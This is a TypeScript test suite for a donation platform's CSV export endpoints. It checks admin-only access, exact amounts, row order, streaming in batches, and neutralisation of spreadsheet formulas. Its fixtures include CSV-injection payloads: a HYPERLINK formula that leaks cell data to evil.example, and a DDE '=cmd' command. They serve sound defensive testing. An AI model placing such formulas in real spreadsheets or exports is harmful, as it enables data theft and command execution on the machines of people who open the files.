/**
 * GET /api/orgs/:idOrSlug/donations/export and GET /api/orgs/:idOrSlug/donors/export: the CSV
 * round-trips through a real parser (csv-parse) with hostile names, selects the same rows as the
 * lists, keeps amounts exact, neutralises spreadsheet formulas, and streams large exports in
 * keyset batches. Both need ADMIN: they are bulk copies of donor data.
 */
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import { NextRequest } from "next/server";
import { beforeAll, describe, expect, it } from "vitest";
import { findOrganization } from "@/db/queries/organizations";
import type { RouteHandler } from "@/lib/api/route";
import { exportDonationsCsvInBatches } from "@/lib/services/exports/export-donations";
import { exportDonorsCsv } from "@/lib/services/exports/export-donors";
import { postgresClientOf } from "@/lib/services/exports/donations-copy";
import { get, post, randomIp, serverClientIpHeaders, type ApiResponse, type TestUser } from "../helpers/api";
import { testDb } from "../helpers/db";
import {
  activeCampaign,
  activeOrg,
  insertDonations,
  insertDonor,
  memberOf,
  outsider,
  paidDonation,
  rowsOf,
  type Campaign,
  type Org,
} from "../helpers/records";

const DONATION_HEADER = [
  "id",
  "createdAt",
  "succeededAt",
  "status",
  "amount",
  "amountCents",
  "currency",
  "fee",
  "feeCents",
  "matchedAmount",
  "matchedAmountCents",
  "email",
  "firstName",
  "lastName",
  "anonymous",
  "campaignId",
  "campaignTitle",
  "donorId",
  "recurringInterval",
  "recurringPlanId",
  "isRenewal",
  "tickets",
  "coverFees",
  "message",
  "dedicationType",
  "dedicationHonoreeName",
  "dedicationNotifyEmail",
  "dedicationMessage",
  "paymentIntentId",
  "failureReason",
  "disputeReason",
  "updatedAt",
  "source",
  "method",
  "reference",
  "receiptNumber",
  "upsell",
];
const DONOR_HEADER = [
  "id",
  "email",
  "firstName",
  "lastName",
  "totalGiven",
  "totalGivenCents",
  "currency",
  "donationCount",
  "firstDonationAt",
  "lastDonationAt",
  "phone",
  "addressLine1",
  "addressLine2",
  "city",
  "region",
  "postalCode",
  "country",
  "tags",
  "emailOptIn",
  "source",
  "createdAt",
];

/** What a spreadsheet-safe cell looks like: written independently of the implementation. */
const safe = (s: string | null | undefined) => (s == null ? "" : /^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
const decimal = (cents: number) => `${Math.floor(cents / 100)}.${String(cents % 100).padStart(2, "0")}`;
const parseCsv = (text: string) =>
  parse(text, { bom: true, columns: true, record_delimiter: "\r\n", skip_empty_lines: false }) as Record<string, string>[];
const parseRows = (text: string) => parse(text, { bom: true, record_delimiter: "\r\n" }) as string[][];

let owner: TestUser;
let member: TestUser;
let admin: TestUser;
let org: Org;
let campaign: Campaign;
let plain: Campaign;

const HOSTILE = [
  { firstName: "Smith, John", lastName: 'O"Brien', message: 'He said "hi", then left' },
  { firstName: "Line\nBreak", lastName: "CR\rLF\r\nEnd", message: "multi\r\nline\nmessage" },
  { firstName: "Zoë 🎉", lastName: "Ñúñez-Çelik", message: "日本語のメッセージ 🙏" },
  { firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', lastName: "+1+2", message: "-2+3" },
  { firstName: "@SUM(A1:A9)", lastName: "\tTabbed", message: "\rCarriage" },
  { firstName: "Plain", lastName: "Name", message: "=cmd|' /C calc'!A0" },
];
const AMOUNTS = [1, 5, 10, 99, 100, 1234, 123456789, 2000000000];

async function rawExport(kind: "donations" | "donors", orgIdOrSlug: string, query: string, token: string): Promise<Response> {
  await testDb();
  const mod = (kind === "donations"
    ? await import("@/app/api/orgs/[idOrSlug]/donations/export/route")
    : await import("@/app/api/orgs/[idOrSlug]/donors/export/route")) as unknown as { GET: RouteHandler };
  const req = new NextRequest(new URL(`/api/orgs/${orgIdOrSlug}/${kind}/export${query}`, "http://localhost:3000"), {
    headers: { authorization: `Bearer ${token}`, ...serverClientIpHeaders(randomIp()) },
  });
  return mod.GET(req, { params: Promise.resolve({ idOrSlug: orgIdOrSlug }) });
}

/** Every page of the donations list for a query, in order. */
async function listAll(query: Record<string, string>, token = member.token) {
  const out: any[] = [];
  let cursor: string | null = null;
  do {
    const qs: URLSearchParams = new URLSearchParams({ ...query, limit: "100", ...(cursor ? { cursor } : {}) });
    const res: ApiResponse = await get(`/api/orgs/${org.id}/donations?${qs}`, { token });
    expect(res.status, res.text).toBe(200);
    out.push(...res.body.data);
    cursor = res.body.pagination.nextCursor;
  } while (cursor);
  return out;
}

const exportText = async (kind: "donations" | "donors", query: Record<string, string> = {}, token = admin.token) => {
  const res = await get(`/api/orgs/${org.id}/${kind}/export?${new URLSearchParams(query)}`, { token });
  expect(res.status, res.text).toBe(200);
  return res;
};

beforeAll(async () => {
  ({ owner, org } = await activeOrg());
  member = await memberOf(org, owner, "MEMBER");
  admin = await memberOf(org, owner, "ADMIN");
  campaign = await activeCampaign(org, owner, { title: 'Gala, 2030 "Black tie"' });
  plain = await activeCampaign(org, owner, { title: "Plain appeal" });

  await paidDonation(campaign.id, { firstName: "Émile", lastName: "Zola", amount: 4321, coverFees: true, email: "emile@example.org" });
  await paidDonation(plain.id, {
    firstName: "Ada",
    lastName: "Lovelace",
    amount: 1000,
    recurringInterval: "MONTH",
    email: "ada@example.org",
  });
  let i = 0;
  for (const names of HOSTILE) {
    const donor = await insertDonor(org.id, { email: `hostile-${i}@example.org`, firstName: names.firstName, lastName: names.lastName });
    await insertDonations([
      {
        orgId: org.id,
        campaignId: i % 2 ? plain.id : campaign.id,
        donorId: donor.id,
        email: `hostile-${i}@example.org`,
        ...names,
        amount: AMOUNTS[i],
        status: i % 2 ? "SUCCEEDED" : "PENDING",
        dedication: { type: "IN_MEMORY", honoreeName: names.firstName, notifyEmail: null, message: names.message },
        createdAt: `2025-01-0${i + 1}T10:00:00.123456Z`,
      },
    ]);
    i++;
  }
  const donor = await insertDonor(org.id, { email: "amounts@example.org", firstName: "Amount", lastName: "Checker" });
  await insertDonations(
    AMOUNTS.map((amount, k) => ({
      orgId: org.id,
      campaignId: plain.id,
      donorId: donor.id,
      email: "amounts@example.org",
      amount,
      createdAt: `2024-06-0${k + 1}T00:00:00Z`,
    })),
  );
});

describe("bulk exports need ADMIN", () => {
  it("GET /api/orgs/:idOrSlug/donations/export and /donors/export answer 403 to a MEMBER and the CSV to an ADMIN or OWNER", async () => {
    for (const kind of ["donations", "donors"] as const) {
      const refused = await get(`/api/orgs/${org.id}/${kind}/export`, { token: member.token });
      expect(refused.status, kind).toBe(403);
      expect(refused.body).toEqual({ error: "Forbidden", status: 403 });
      expect(refused.text).not.toContain("@example.org");
      for (const user of [admin, owner]) {
        const res = await get(`/api/orgs/${org.id}/${kind}/export`, { token: user.token });
        expect(res.status, `${kind} ${res.text}`).toBe(200);
        expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      }
      // The lists stay open to every member.
      expect((await get(`/api/orgs/${org.id}/${kind}`, { token: member.token })).status).toBe(200);
    }
  });
});

describe("GET /api/orgs/:idOrSlug/donations/export", () => {
  it("GET /api/orgs/:idOrSlug/donations/export answers a UTF-8 CSV attachment with a BOM, CRLF lines and the wrapper's headers", async () => {
    const before = new Date().toISOString().slice(0, 10);
    const res = await get(`/api/orgs/${org.slug}/donations/export`, { token: admin.token });
    const after = new Date().toISOString().slice(0, 10);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const disposition = res.headers.get("content-disposition");
    expect([before, after].map((d) => `attachment; filename="donations-${org.slug}-${d}.csv"`)).toContain(disposition);
    for (const h of ["x-request-id", "x-ratelimit-limit", "x-ratelimit-remaining", "x-ratelimit-reset"])
      expect(res.headers.get(h), h).toBeTruthy();
    expect(res.headers.get("cache-control")).toBe("no-store");

    // Response.text() drops a BOM, as every UTF-8 decoder does: look at the bytes.
    const bytes = new Uint8Array(await (await rawExport("donations", org.slug, "", admin.token)).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const raw = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    expect(raw.charCodeAt(0)).toBe(0xfeff);
    expect(raw.slice(1).split("\r\n")[0]).toBe(DONATION_HEADER.join(","));
    expect(raw.slice(1)).toBe(res.text);
    expect(res.text.endsWith("\r\n")).toBe(true);
    // Every line break outside a quoted field is CRLF: parsing with CRLF as the only record delimiter keeps every row whole.
    const rows = parseRows(res.text);
    for (const r of rows) expect(r).toHaveLength(DONATION_HEADER.length);
  });

  it("GET /api/orgs/:idOrSlug/donations/export has each gift's source, method, reference and receipt number", async () => {
    const books = await activeOrg();
    const c = await activeCampaign(books.org, books.owner);
    const recorded = await post(
      `/api/orgs/${books.org.id}/offline-gifts`,
      {
        campaignId: c.id,
        amount: 12_500,
        receivedAt: new Date().toISOString().slice(0, 10),
        method: "CHEQUE",
        reference: "=Cheque 2041",
        donor: { email: `rita-${books.org.id}@example.org`, firstName: "Rita", lastName: "Books" },
      },
      { token: books.owner.token },
    );
    expect(recorded.status, recorded.text).toBe(201);
    const res = await get(`/api/orgs/${books.org.id}/donations/export`, { token: books.owner.token });
    expect(res.status).toBe(200);
    const [row] = parseCsv(res.text);
    expect(row).toMatchObject({
      id: recorded.body.id,
      source: "OFFLINE",
      method: "CHEQUE",
      reference: "'=Cheque 2041",
      receiptNumber: recorded.body.receiptNumber,
    });
    expect(recorded.body.receiptNumber).toMatch(/^\d{4}-\d{6}$/);
    // The batched path (PGlite's) writes the same line.
    const db = await testDb();
    const found = (await findOrganization(db, books.org.id))!;
    const batched = await new Response(await exportDonationsCsvInBatches(db, found, {})).text();
    expect(parseCsv(batched)).toEqual(parseCsv(res.text));
  });

  it("GET /api/orgs/:idOrSlug/donations/export round-trips hostile names exactly, with formulas neutralised", async () => {
    const res = await exportText("donations");
    const records = parseCsv(res.text);
    const list = await listAll({});
    expect(records.map((r) => r.id)).toEqual(list.map((d) => d.id));
    const titles: Record<string, string> = { [campaign.id]: campaign.title, [plain.id]: plain.title };
    for (const [k, d] of list.entries()) {
      const r = records[k];
      expect(r, d.id).toEqual({
        id: d.id,
        createdAt: d.createdAt,
        succeededAt: d.succeededAt ?? "",
        status: d.status,
        amount: decimal(d.amount),
        amountCents: String(d.amount),
        currency: "usd",
        fee: decimal(d.feeCents),
        feeCents: String(d.feeCents),
        matchedAmount: decimal(d.matchedAmountCents),
        matchedAmountCents: String(d.matchedAmountCents),
        email: d.email,
        firstName: safe(d.firstName),
        lastName: safe(d.lastName),
        anonymous: String(d.anonymous),
        campaignId: d.campaignId,
        campaignTitle: titles[d.campaignId],
        donorId: d.donorId,
        recurringInterval: d.recurringInterval ?? "",
        recurringPlanId: d.recurringPlanId ?? "",
        isRenewal: String(d.isRenewal),
        tickets: d.tickets === null ? "" : String(d.tickets),
        coverFees: String(d.coverFees),
        message: safe(d.message),
        dedicationType: d.dedication?.type ?? "",
        dedicationHonoreeName: safe(d.dedication?.honoreeName),
        dedicationNotifyEmail: d.dedication?.notifyEmail ?? "",
        dedicationMessage: safe(d.dedication?.message),
        paymentIntentId: d.paymentIntentId ?? "",
        failureReason: d.failureReason ?? "",
        disputeReason: d.disputeReason ?? "",
        updatedAt: d.updatedAt,
        source: d.source,
        method: d.method,
        reference: safe(d.reference),
        receiptNumber: d.receiptNumber ?? "",
        upsell: d.upsell ?? "",
      });
    }
    const byEmail = Object.fromEntries(records.map((r) => [r.email, r]));
    expect(byEmail["hostile-0@example.org"]).toMatchObject({
      firstName: "Smith, John",
      lastName: 'O"Brien',
      campaignTitle: 'Gala, 2030 "Black tie"',
    });
    expect(byEmail["hostile-1@example.org"]).toMatchObject({
      firstName: "Line\nBreak",
      lastName: "CR\rLF\r\nEnd",
      message: "multi\r\nline\nmessage",
    });
    expect(byEmail["hostile-2@example.org"]).toMatchObject({
      firstName: "Zoë 🎉",
      lastName: "Ñúñez-Çelik",
      message: "日本語のメッセージ 🙏",
    });
    expect(byEmail["hostile-3@example.org"]).toMatchObject({
      firstName: `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
      lastName: "'+1+2",
      message: "'-2+3",
    });
    expect(byEmail["hostile-4@example.org"]).toMatchObject({ firstName: "'@SUM(A1:A9)", lastName: "'\tTabbed", message: "'\rCarriage" });
    expect(byEmail["hostile-5@example.org"]).toMatchObject({ message: "'=cmd|' /C calc'!A0", dedicationMessage: "'=cmd|' /C calc'!A0" });
    expect(byEmail["emile@example.org"]).toMatchObject({
      firstName: "Émile",
      amount: "43.21",
      amountCents: "4321",
      coverFees: "true",
      status: "SUCCEEDED",
    });
    expect(Number(byEmail["emile@example.org"].feeCents)).toBeGreaterThan(0);
    expect(byEmail["ada@example.org"]).toMatchObject({ recurringInterval: "MONTH", recurringPlanId: expect.stringMatching(/^rp_/) });
    // The raw bytes: a quoted field with doubled quotes.
    expect(res.text).toContain('"Smith, John","O""Brien"');
  });

  it("GET /api/orgs/:idOrSlug/donations/export writes amounts exactly, in decimal units and in cents", async () => {
    const records = parseCsv((await exportText("donations", { q: "amounts@" })).text);
    expect(records.map((r) => [r.amount, r.amountCents])).toEqual([...AMOUNTS].reverse().map((c) => [decimal(c), String(c)]));
    expect(records.map((r) => r.amount)).toEqual(["20000000.00", "1234567.89", "12.34", "1.00", "0.99", "0.10", "0.05", "0.01"]);
  });

  it.each([
    ["no filter", {}],
    ["status", { status: "SUCCEEDED" }],
    ["campaignId", { campaignId: "plain" }],
    ["q", { q: "SMITH" }],
    ["from and to", { from: "2024-06-03T00:00:00Z", to: "2025-01-04T00:00:00Z" }],
    ["everything", { status: "PENDING", campaignId: "gala", q: "hostile", to: "2030-01-01T00:00:00Z" }],
    ["filters matching nothing", { q: "no-such-donor" }],
  ])(
    "GET /api/orgs/:idOrSlug/donations/export with %s has the list's rows, in the list's order",
    async (_name, query: Record<string, string>) => {
      const resolved = { ...query };
      if (resolved.campaignId) resolved.campaignId = resolved.campaignId === "plain" ? plain.id : campaign.id;
      const records = parseCsv((await exportText("donations", resolved)).text);
      expect(records.map((r) => r.id)).toEqual((await listAll(resolved)).map((d) => d.id));
    },
  );

  it("GET /api/orgs/:idOrSlug/donations/export in batches of 3 still has every row once, in order", async () => {
    const db = await testDb();
    const full = (await findOrganization(db, org.id))!;
    const text = await new Response(await exportDonationsCsvInBatches(db, full, {}, 3)).text();
    expect(parseCsv(text).map((r) => r.id)).toEqual((await listAll({})).map((d) => d.id));
  });

  it("GET /api/orgs/:idOrSlug/donations/export answers JSON errors before the stream starts", async () => {
    const bad = await get(`/api/orgs/${org.id}/donations/export?from=yesterday`, { token: admin.token });
    expect(bad.status).toBe(400);
    expect(bad.headers.get("content-type")).toMatch(/^application\/json/);
    expect(bad.headers.get("x-request-id")).toBeTruthy();
    expect(bad.body.details.fieldErrors.from).toBeDefined();
    const order = await get(`/api/orgs/${org.id}/donations/export?from=2025-01-02T00:00:00Z&to=2025-01-01T00:00:00Z`, {
      token: admin.token,
    });
    expect(order.status).toBe(400);
    expect(Object.keys(order.body.details.fieldErrors)).toEqual(["to"]);

    expect((await get(`/api/orgs/${org.id}/donations/export`)).body).toEqual({ error: "Unauthorized", status: 401 });
    const stranger = await get(`/api/orgs/${org.id}/donations/export`, { token: (await outsider()).token });
    expect(stranger.status).toBe(403);
    const unknown = await get("/api/orgs/org_unknown00000000000000/donations/export", { token: admin.token });
    expect(unknown.body).toEqual({ error: "Organization not found", status: 404 });
  });
});

describe("GET /api/orgs/:idOrSlug/donors/export", () => {
  const listDonors = async (query: Record<string, string>) => {
    const res = await get(`/api/orgs/${org.id}/donors?${new URLSearchParams({ ...query, limit: "100" })}`, { token: member.token });
    expect(res.status).toBe(200);
    expect(res.body.pagination.hasMore).toBe(false);
    return res.body.data as any[];
  };

  it("GET /api/orgs/:idOrSlug/donors/export answers the donors CSV with totals in decimal and cents", async () => {
    const res = await exportText("donors");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(
      new RegExp(`^attachment; filename="donors-${org.slug}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
    );
    expect(res.headers.get("x-request-id")).toBeTruthy();
    const bytes = new Uint8Array(await (await rawExport("donors", org.id, "", admin.token)).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(res.text.split("\r\n")[0]).toBe(DONOR_HEADER.join(","));
    const records = parseCsv(res.text);
    const list = await listDonors({});
    expect(records).toEqual(
      list.map((d) => ({
        id: d.id,
        email: d.email,
        firstName: safe(d.firstName),
        lastName: safe(d.lastName),
        totalGiven: decimal(d.totalGivenCents),
        totalGivenCents: String(d.totalGivenCents),
        currency: "usd",
        donationCount: String(d.donationCount),
        firstDonationAt: d.firstDonationAt ?? "",
        lastDonationAt: d.lastDonationAt ?? "",
        phone: safe(d.phone),
        addressLine1: safe(d.address?.line1),
        addressLine2: safe(d.address?.line2),
        city: safe(d.address?.city),
        region: safe(d.address?.region),
        postalCode: safe(d.address?.postalCode),
        country: d.address?.country ?? "",
        tags: safe(d.tags.join("; ")),
        emailOptIn: String(d.emailOptIn),
        source: d.source,
        createdAt: d.createdAt,
      })),
    );
    const emile = records.find((r) => r.email === "emile@example.org")!;
    expect(emile).toMatchObject({ firstName: "Émile", totalGiven: "43.21", totalGivenCents: "4321", donationCount: "1" });
    expect(records.find((r) => r.email === "hostile-3@example.org")!.firstName).toBe(
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
    );
  });

  it.each([
    [{}],
    [{ sort: "name", order: "asc" }],
    [{ sort: "name", order: "desc" }],
    [{ sort: "lastGift", order: "asc" }],
    [{ sort: "lastGift", order: "desc" }],
    [{ sort: "createdAt", order: "asc" }],
    [{ sort: "total", order: "asc" }],
    [{ q: "hostile" }],
  ])(
    "GET /api/orgs/:idOrSlug/donors/export with %o has the list's donors in the list's order, also in batches of 2",
    async (query: Record<string, string>) => {
      const expected = (await listDonors(query)).map((d) => d.id);
      expect(parseCsv((await exportText("donors", query)).text).map((r) => r.id)).toEqual(expected);
      const db = await testDb();
      const full = (await findOrganization(db, org.id))!;
      const by = { q: query.q, sort: (query.sort ?? "total") as "total", order: (query.order ?? "desc") as "desc" };
      const text = await new Response(await exportDonorsCsv(db, full, by, 2)).text();
      expect(parseCsv(text).map((r) => r.id)).toEqual(expected);
    },
  );

  it("GET /api/orgs/:idOrSlug/donors/export answers 400 JSON on a bad sort", async () => {
    const res = await get(`/api/orgs/${org.id}/donors/export?sort=amount`, { token: admin.token });
    expect(res.status).toBe(400);
    expect(Object.keys(res.body.details.fieldErrors)).toEqual(["sort"]);
  });
});

describe("GET /api/orgs/:idOrSlug/donations/export of 20 000 donations", () => {
  const N = 20_000;
  let big: { owner: TestUser; org: Org };

  beforeAll(async () => {
    big = await activeOrg();
    const c = await activeCampaign(big.org, big.owner, { title: "Big campaign" });
    const donor = await insertDonor(big.org.id, { email: "bulk@example.org" });
    const db = await testDb();
    // One statement; four donations share each millisecond, so batch edges fall inside ties.
    await db.execute(sql`
      insert into donations (id, org_id, campaign_id, donor_id, amount, currency, status, email, first_name, last_name, created_at)
      select 'don_big' || lpad(i::text, 6, '0'), ${big.org.id}, ${c.id}, ${donor.id}, 100 + i, 'usd',
             (case when i % 3 = 0 then 'SUCCEEDED' else 'PENDING' end)::donation_status,
             'bulk' || i || '@example.org', 'First ' || i, 'Last, ' || i,
             timestamptz '2024-01-01 00:00:00+00' + ((i / 4) * interval '1 millisecond')
      from generate_series(1, ${N}) as i`);
  }, 120_000);

  it("GET /api/orgs/:idOrSlug/donations/export streams every row, exactly once and in order, in several batches", async () => {
    const res = await rawExport("donations", big.org.id, "", big.owner.token);
    expect(res.status).toBe(200);
    expect(res.body).toBeInstanceOf(ReadableStream);
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    let text = "";
    let chunks = 0;
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      chunks++;
      text += decoder.decode(value, { stream: true });
    }
    text += decoder.decode();
    expect(chunks).toBeGreaterThanOrEqual(N / 2000);
    const records = parseCsv(text);
    expect(records).toHaveLength(N);
    const expected = await rowsOf<{ id: string }>(
      sql`select id from donations where org_id = ${big.org.id} order by created_at desc, id desc`,
    );
    expect(records.map((r) => r.id)).toEqual(expected.map((r) => r.id));
    expect(new Set(records.map((r) => r.id)).size).toBe(N);
    for (const r of records) {
      const i = Number(r.id.slice(7));
      expect(r.amountCents).toBe(String(100 + i));
      expect(r.amount).toBe(decimal(100 + i));
      expect(r.lastName).toBe(`Last, ${i}`);
    }
  }, 120_000);

  it("GET /api/orgs/:idOrSlug/donations/export sends the first batch before it reads the last one", async () => {
    const res = await rawExport("donations", big.org.id, "", big.owner.token);
    const reader = res.body!.getReader();
    const first = new TextDecoder("utf-8", { ignoreBOM: true }).decode((await reader.read()).value);
    expect(first.startsWith(`\uFEFF${DONATION_HEADER.join(",")}\r\n`)).toBe(true);
    const firstRows = parseCsv(first);
    expect(firstRows.length).toBeGreaterThan(0);
    expect(firstRows.length).toBeLessThan(N);
    expect(first).not.toContain("don_big000001,");
    // The oldest donation is in the last batch: change it now, and the export shows the change.
    const db = await testDb();
    await db.execute(sql`update donations set email = 'changed-mid-stream@example.org' where id = 'don_big000001'`);
    let rest = "";
    const decoder = new TextDecoder();
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      rest += decoder.decode(value, { stream: true });
    }
    const all = parseCsv(first + rest);
    expect(all).toHaveLength(N);
    // In batches (PGlite) each batch reads the rows as they are then; on Postgres the export is
    // one COPY statement, so one snapshot: the rows as they were when it started.
    const oneSnapshot = postgresClientOf(db) !== null;
    expect(all.at(-1)!.id).toBe("don_big000001");
    if (oneSnapshot) expect(all.at(-1)!.email).not.toBe("changed-mid-stream@example.org");
    else expect(all.at(-1)!.email).toBe("changed-mid-stream@example.org");
  }, 120_000);

  it("GET /api/orgs/:idOrSlug/donations/export stops reading when the client goes away", async () => {
    const res = await rawExport("donations", big.org.id, "?status=SUCCEEDED", big.owner.token);
    const reader = res.body!.getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    await reader.cancel();
    // The database is still fine for the next request.
    const again = await get(`/api/orgs/${big.org.id}/donations?limit=1`, { token: big.owner.token });
    expect(again.status).toBe(200);
  });
});
